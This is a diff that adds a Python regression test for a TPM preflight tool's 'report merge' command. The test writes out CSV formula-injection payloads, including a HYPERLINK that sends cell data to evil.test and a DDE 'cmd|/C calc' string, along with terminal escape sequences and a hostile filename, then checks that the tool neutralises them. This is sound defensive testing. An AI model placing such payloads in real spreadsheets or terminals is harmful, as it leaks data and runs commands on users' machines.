@@ -1,6 +1,7 @@
 """`preflight report merge`: reports from several runs become CSV rows and SQLite tables with summaries by verdict,
 failing check and model; bad, partial and foreign JSON files are named and skipped without stopping the merge."""
 import csv
+import json
 import os
 import sqlite3
 import subprocess
@@ -47,3 +48,54 @@ def test_report_merge_csv_sqlite_and_bad_files(build):
         by_check = dict(db.execute("SELECT check_id, runs FROM summary_by_check"))
         check(by_check == {"aik.authority.listed": 1, "ek.chain": 1}, str(by_check))
         check(db.execute("SELECT SUM(runs) FROM summary_by_model").fetchone()[0] == 3, "model summary")
+
+
+def hostile_report(serial, verdict, failing_id, predicts):
+    """A report as a tampered stick could carry it: cells that are formulas, terminal controls in printed fields."""
+    return {"schema": "tpm-preflight/report/1", "verdict": verdict, "started_utc": "+2026-01-01T00:00:00Z",
+            "checks": [{"id": "platform.info", "status": "pass",
+                        "evidence": {"serial": serial, "system_manufacturer": "@SUM(1+1)*cmd|' /C calc'!A0",
+                                     "product": "Model\u001b[2J\u001b]0;owned\u0007 \u009b31m\u202eX",
+                                     "bios_version": "-2+3"}},
+                       {"id": "tpm.identity", "status": "pass", "evidence": {"manufacturer": "\tIFX",
+                                                                               "firmware_version": "\r=1"}},
+                       {"id": failing_id, "status": "fail", "predicts": predicts}]}
+
+
+def test_report_merge_neutralises_formulas_and_controls(build):
+    """CSV cells that start with = + - @ TAB CR get a leading apostrophe (a spreadsheet would run them as formulas);
+    control characters from reports and file names never reach the terminal, the CSV or the database."""
+    tool = os.path.join(build, "asan/preflight")
+    with Workspace(build) as work:
+        reports = os.path.join(work, "reports")
+        os.mkdir(reports)
+        rows = (("=HYPERLINK(\"http://evil.test/?\"&A1)", "NOT READY\u001b[2J\rVERDICT  READY", "ek.chain\u001b[31m",
+                 "+0x80090016\nFAILING  x"),
+                ("plain-serial", "READY", "aik.authority.listed", "none"))
+        for i, (serial, verdict, failing, predicts) in enumerate(rows):
+            with open(os.path.join(reports, f"run{i}.json"), "w") as f:
+                json.dump(hostile_report(serial, verdict, failing, predicts), f)
+        with open(os.path.join(reports, "bad\x1b[2Jname.json"), "wb") as f:
+            f.write(b"{")
+        out_csv, out_db = os.path.join(work, "runs.csv"), os.path.join(work, "runs.sqlite")
+        out = subprocess.run([tool, "report", "merge", reports, "--csv", out_csv, "--sqlite", out_db],
+                             capture_output=True, timeout=60)
+        check(out.returncode == 0, f"exit {out.returncode}: {out.stderr}")
+        printed = out.stdout + out.stderr
+        controls = sorted({c for c in printed.decode("utf-8", "replace") if (ord(c) < 0x20 and c != "\n")
+                           or 0x7F <= ord(c) < 0xA0 or c == "\u202e"})
+        check(not controls, f"control characters printed: {controls!r} in {printed!r}")
+        check(b"SKIPPED  " in out.stderr and b"bad?[2Jname.json" in out.stderr, out.stderr)
+        check(b"\nVERDICT  READY: 1\n" in out.stdout, f"the injected line is the only READY one: {out.stdout!r}")
+        with open(out_csv, "rb") as f:
+            raw = f.read()
+        check(not [b for b in raw.replace(b"\r\n", b"") if b < 0x20 or b == 0x7F], f"controls in the CSV: {raw!r}")
+        with open(out_csv, newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        check(not risky, f"cells a spreadsheet runs as formulas: {risky}")
+        check("'=HYPERLINK(\"http://evil.test/?\"&A1)" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+              and "'-2+3" in cells and "'+2026-01-01T00:00:00Z" in cells, str(cells))
+        db = sqlite3.connect(out_db)
+        stored = [v for row in db.execute("SELECT * FROM runs") for v in row if isinstance(v, str)]
+        check(not [v for v in stored if any(ord(c) < 0x20 or 0x7F <= ord(c) < 0xA0 for c in v)], str(stored))
